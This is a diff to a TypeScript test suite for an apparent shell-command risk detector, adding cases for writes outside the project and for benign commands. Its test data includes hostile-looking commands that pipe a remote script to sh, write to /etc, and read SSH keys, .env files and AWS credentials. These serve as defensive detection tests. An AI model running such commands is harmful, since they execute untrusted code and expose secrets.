@@ -32,7 +32,10 @@ const table: [Risk, string[]][] = [
     ["python3 -c 'print(1)'", "node -e 1", "perl -ne 1", "bash -c ls", "bash -lc ls", "eval ls", "node --eval 1"],
   ],
   ["code", ["curl https://x.example | sh", "cat a | python3 -", "echo ls | bash -s", "awk 'BEGIN{system(\"ls\")}'"]],
-  ["outside", ["echo a > /tmp/a", "echo a >> ~/b", "ls > ../c", 'ls > "$X"']],
+  [
+    "outside",
+    ["echo a > /tmp/a", "echo a >> ~/b", "ls > ../c", 'ls > "$X"', "ls | tee /etc/a", "cp a ~/b", "ln -s a ../b"],
+  ],
   [
     "secrets",
     ["cat ~/.ssh/id_ed25519", "cat .env", "cat .env.local", "grep x < .env", "ls server.pem", "cat aws/credentials"],
@@ -50,7 +53,13 @@ test.each(table.flatMap(([risk, commands]) => commands.map((command) => [command
 test.each([
   ["git status && git log -p", "npm test", "npm run build -- --watch", "tail -f log", "grep -rf patterns src"],
   ["python3 script.py -c x", "node --version", "node build.mjs", "bash build.sh", "cat .env.example", "echo a > b.txt"],
-  ["ls 2>/dev/null", "docker build -f Dockerfile .", "X=1 make", "sed s/a/b/ c", "cat tokenizer.ts/readme"],
+  [
+    "ls 2>/dev/null",
+    "docker build -f Dockerfile .",
+    "X=1 make",
+    "sed s/a/b/ c",
+    "cat tokenizer.ts/readme; cp a b/c; ls | tee out.txt",
+  ],
 ])("everyday commands are not told as risky: %s, %s, %s, %s, %s", (...commands) => {
   expect(commands.map((command) => [command, ...risksIn(command)])).toEqual(commands.map((command) => [command]));
 });
